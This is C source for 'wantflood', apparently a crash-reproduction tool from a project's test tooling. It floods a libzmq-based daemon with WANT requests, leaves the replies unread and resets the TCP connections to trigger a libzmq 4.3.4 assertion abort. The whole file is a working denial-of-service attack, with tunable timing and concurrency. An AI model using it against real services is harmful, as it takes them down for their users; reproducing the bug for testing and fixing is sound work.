/*
 * wantflood.c -- hostile member client for the libzmq 4.3.4 `!_io_error`
 * abort (stream_engine_base.cpp:331). It connects as an admitted member
 * (CURVE, keys handled as in tests/tools/garbage.c), floods the daemon's
 * ROUTER with WANT requests for edits the daemon holds (so it is busy and
 * has output pending to us, which we never read), then resets the TCP
 * connection with unread data (SO_LINGER {1,0} on the connection's fd, taken
 * from a socket monitor, then zmq_close: the kernel sends RST). Repeats
 * until the time is up.
 *
 * usage:
 *   wantflood --dump-ids HOME FILE
 *       writes the 32-byte ids of every record in HOME's store to FILE (run
 *       while no daemon holds HOME).
 *   wantflood [options] HOME ENDPOINT SERVER-NODE-ID IDS-FILE
 *       -s SECONDS   run this long (default 30)
 *       -n WANTS     WANT messages queued on each connection (default 5000)
 *       -k IDS       ids per WANT (default 512)
 *       -w MS        life of a connection: it is reset this long after its
 *                    CURVE handshake (default 4900, just before the daemon's
 *                    first ZMTP heartbeat on it, 5000 ms after the handshake)
 *       -J MS        +- random jitter on that life (default 100)
 *       -j N         connections open at once, their starts staggered (4)
 *       -p MS        client ZMTP heartbeat interval: PINGs interleaved with
 *                    the requests (default 0 = none)
 *       -c N         stop after N connections (default unlimited)
 *       -H           do not send HELLO first
 *       -r ID        use this ZMQ_ROUTING_ID on every connection
 *
 * Prints one line per second of progress to stderr and a summary to stdout:
 * "connections N wants W resets R". Exit 0 after the time is up, 1 on a
 * setup failure, 2 on a usage error.
 */
#include "node/config.h"
#include "node/key.h"
#include "node/repo.h"
#include "proto/msg.h"
#include "proto/util.h"

#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zmq.h>

static uint64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static uint64_t rs = 88172645463325252ull;
static uint64_t rnd(void)
{
    rs ^= rs << 13;
    rs ^= rs >> 7;
    rs ^= rs << 17;
    return rs;
}

static int dump_ids(const char *home, const char *file)
{
    repo_t *r = NULL;
    char *cause = NULL;
    if (repo_open(home, &r, &cause) != 0) {
        fprintf(stderr, "wantflood: %s\n", cause ? cause : "repo_open failed");
        return 1;
    }
    FILE *f = fopen(file, "wb");
    if (!f)
        return 1;
    size_t n = repo_edit_count(r);
    for (size_t i = 0; i < n; i++)
        fwrite(repo_record_id(r, i), 32, 1, f);
    fclose(f);
    repo_close(&r);
    printf("%zu\n", n);
    return 0;
}

/* Waits for the monitor's CONNECTED event and returns the connection fd. */
static int wait_connected_fd(void *mon, int timeout_ms)
{
    zmq_pollitem_t it = {mon, 0, ZMQ_POLLIN, 0};
    uint64_t end = now_ms() + (uint64_t)timeout_ms;
    while (now_ms() < end) {
        if (zmq_poll(&it, 1, 50) <= 0)
            continue;
        zmq_msg_t ev, addr;
        zmq_msg_init(&ev);
        zmq_msg_init(&addr);
        if (zmq_msg_recv(&ev, mon, 0) < 0)
            return -1;
        zmq_msg_recv(&addr, mon, 0);
        int fd = -1;
        uint16_t e = 0;
        if (zmq_msg_size(&ev) >= 6) {
            const uint8_t *d = zmq_msg_data(&ev);
            uint32_t v;
            memcpy(&e, d, 2);
            memcpy(&v, d + 2, 4);
            fd = (int)v;
        }
        zmq_msg_close(&ev);
        zmq_msg_close(&addr);
        if (e == ZMQ_EVENT_CONNECTED)
            return fd;
    }
    return -1;
}

/* True once the monitor reported the CURVE handshake done (the daemon's
 * ZMTP heartbeat timer on this connection starts then). */
static bool handshake_done(void *mon)
{
    for (;;) {
        zmq_msg_t ev, addr;
        zmq_msg_init(&ev);
        zmq_msg_init(&addr);
        if (zmq_msg_recv(&ev, mon, ZMQ_DONTWAIT) < 0)
            return false;
        zmq_msg_recv(&addr, mon, 0);
        uint16_t e = 0;
        if (zmq_msg_size(&ev) >= 2)
            memcpy(&e, zmq_msg_data(&ev), 2);
        zmq_msg_close(&ev);
        zmq_msg_close(&addr);
        if (e == ZMQ_EVENT_HANDSHAKE_SUCCEEDED)
            return true;
    }
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "--dump-ids") == 0)
        return dump_ids(argv[2], argv[3]);
    int secs = 30, nwant = 5000, kids = 512, life = 4900, jitter = 100, par = 4, ping = 0, hello = 1;
    long maxconn = -1;
    const char *rid = NULL;
    int o;
    while ((o = getopt(argc, argv, "s:n:k:w:J:j:p:c:Hr:")) != -1) {
        switch (o) {
        case 's': secs = atoi(optarg); break;
        case 'n': nwant = atoi(optarg); break;
        case 'k': kids = atoi(optarg); break;
        case 'w': life = atoi(optarg); break;
        case 'J': jitter = atoi(optarg); break;
        case 'j': par = atoi(optarg); break;
        case 'p': ping = atoi(optarg); break;
        case 'c': maxconn = atol(optarg); break;
        case 'H': hello = 0; break;
        case 'r': rid = optarg; break;
        default: return 2;
        }
    }
    if (argc - optind != 4 || kids < 1 || kids > MSG_MAX_IDS) {
        fprintf(stderr, "usage: wantflood [-s S] [-n N] [-k K] [-w MS] [-J MS] [-j N] [-p MS] [-c N] [-H] [-r ID] "
                        "HOME ENDPOINT SERVER-NODE-ID IDS-FILE\n");
        return 2;
    }
    const char *home = argv[optind], *ep = argv[optind + 1], *sid = argv[optind + 2],
               *idf = argv[optind + 3];
    nodekey_t k;
    uint8_t server_ed[32], server[32], pk[32], sk[32], mesh[32] = {0};
    char *kp = xasprintf("%s/node.key", home);
    char *cause = NULL;
    if (key_load(kp, &k, &cause) < 0 || hex_decode(sid, server_ed, 32) < 0 ||
        key_curve_pk(server_ed, server) < 0 || key_curve(&k, pk, sk) < 0) {
        fprintf(stderr, "wantflood: bad key or id: %s\n", cause ? cause : "");
        return 1;
    }
    free(kp);
    char *mh = config_get(home, "mesh");
    if (!mh || hex_decode(mh, mesh, 32) < 0) {
        fprintf(stderr, "wantflood: %s is in no mesh\n", home);
        return 1;
    }
    free(mh);
    FILE *f = fopen(idf, "rb");
    if (!f) {
        fprintf(stderr, "wantflood: cannot read %s\n", idf);
        return 1;
    }
    fseek(f, 0, SEEK_END);
    size_t nids = (size_t)ftell(f) / 32;
    fseek(f, 0, SEEK_SET);
    uint8_t(*ids)[32] = xmalloc(nids ? nids * 32 : 32);
    if (nids == 0 || fread(ids, 32, nids, f) != nids) {
        fprintf(stderr, "wantflood: no ids in %s\n", idf);
        return 1;
    }
    fclose(f);
    rs ^= (uint64_t)getpid() << 20 ^ now_ms();
    if (par < 1 || life < 1 || jitter < 0 || jitter >= life)
        return 2;
    uint64_t t0 = now_ms();

    void *ctx = zmq_ctx_new();
    zmq_ctx_set(ctx, ZMQ_BLOCKY, 0); /* every socket lingers 0: no hang in zmq_ctx_term */
    uint64_t t_end = now_ms() + (uint64_t)secs * 1000, t_note = now_ms() + 1000;
    long conns = 0, wants = 0, resets = 0, nofd = 0;
    uint8_t(*req)[32] = xmalloc((size_t)kids * 32);
    struct slot {
        void *d, *mon;
        int fd;
        bool shaken;       /* handshake done: reset_at counts from it */
        uint64_t reset_at;
    } *sl = xcalloc((size_t)par, sizeof *sl);
    for (;;) {
        uint64_t now = now_ms();
        bool done = now >= t_end || (maxconn >= 0 && conns >= maxconn);
        int live = 0;
        for (int s = 0; s < par; s++) {
            if (sl[s].d && !sl[s].shaken && handshake_done(sl[s].mon)) {
                sl[s].shaken = true;
                sl[s].reset_at = now_ms() + (uint64_t)life +
                                 (jitter > 0 ? rnd() % (uint64_t)(2 * jitter + 1) : 0) -
                                 (uint64_t)jitter;
            }
            if (sl[s].d && (done || now >= sl[s].reset_at)) {
                if (sl[s].fd >= 0) {
                    struct linger lg = {1, 0}; /* close() sends RST */
                    if (setsockopt(sl[s].fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg) == 0)
                        resets++;
                } else {
                    nofd++;
                }
                zmq_socket_monitor(sl[s].d, NULL, 0);
                zmq_close(sl[s].mon);
                zmq_close(sl[s].d);
                sl[s].d = NULL;
            }
            if (!sl[s].d && !done && (maxconn < 0 || conns < maxconn)) {
                /* staggered start: slot s opens only after s * life / par */
                if (conns < par && now < t0 + (uint64_t)s * (uint64_t)life / (uint64_t)par)
                    continue;
                void *d = zmq_socket(ctx, ZMQ_DEALER);
                int zero = 0, one = 1, small = 4096;
                zmq_setsockopt(d, ZMQ_SNDHWM, &zero, sizeof zero); /* queue all requests */
                zmq_setsockopt(d, ZMQ_RCVHWM, &one, sizeof one);   /* read (almost) nothing */
                zmq_setsockopt(d, ZMQ_RCVBUF, &small, sizeof small);
                zmq_setsockopt(d, ZMQ_LINGER, &zero, sizeof zero);
                if (ping > 0) {
                    int to = 60000;
                    zmq_setsockopt(d, ZMQ_HEARTBEAT_IVL, &ping, sizeof ping);
                    zmq_setsockopt(d, ZMQ_HEARTBEAT_TIMEOUT, &to, sizeof to);
                }
                if (rid)
                    zmq_setsockopt(d, ZMQ_ROUTING_ID, rid, strlen(rid));
                zmq_setsockopt(d, ZMQ_CURVE_SERVERKEY, server, 32);
                zmq_setsockopt(d, ZMQ_CURVE_PUBLICKEY, pk, 32);
                zmq_setsockopt(d, ZMQ_CURVE_SECRETKEY, sk, 32);
                char monep[64];
                snprintf(monep, sizeof monep, "inproc://wantflood-mon-%ld", conns);
                zmq_socket_monitor(d, monep, ZMQ_EVENT_CONNECTED | ZMQ_EVENT_HANDSHAKE_SUCCEEDED);
                void *mon = zmq_socket(ctx, ZMQ_PAIR);
                zmq_connect(mon, monep);
                if (zmq_connect(d, ep) != 0) {
                    fprintf(stderr, "wantflood: cannot connect to %s\n", ep);
                    return 1;
                }
                sl[s].d = d;
                sl[s].mon = mon;
                sl[s].fd = wait_connected_fd(mon, 3000);
                sl[s].shaken = false;
                /* until the handshake is seen: a generous upper bound */
                sl[s].reset_at = now_ms() + 3 * (uint64_t)life;
                conns++;
                if (hello) {
                    buf_t b = {0};
                    msg_hello(&b, mesh, "wantflood", (uint64_t)time(NULL) * 1000);
                    zmq_send(d, b.data, b.len, 0);
                    buf_free(&b);
                }
                for (int i = 0; i < nwant; i++) {
                    for (int j = 0; j < kids; j++)
                        memcpy(req[j], ids[rnd() % nids], 32);
                    buf_t b = {0};
                    msg_want(&b, (const uint8_t(*)[32])req, (size_t)kids);
                    if (zmq_send(d, b.data, b.len, ZMQ_DONTWAIT) >= 0)
                        wants++;
                    buf_free(&b);
                }
            }
            if (sl[s].d)
                live++;
        }
        if (done && live == 0)
            break;
        if (now_ms() >= t_note) {
            fprintf(stderr, "wantflood: %ld connections, %ld wants, %ld resets\n", conns, wants,
                    resets);
            t_note = now_ms() + 1000;
        }
        usleep(2000);
    }
    free(sl);
    zmq_ctx_term(ctx);
    printf("connections %ld wants %ld resets %ld nofd %ld\n", conns, wants, resets, nofd);
    free(req);
    free(ids);
    return 0;
}
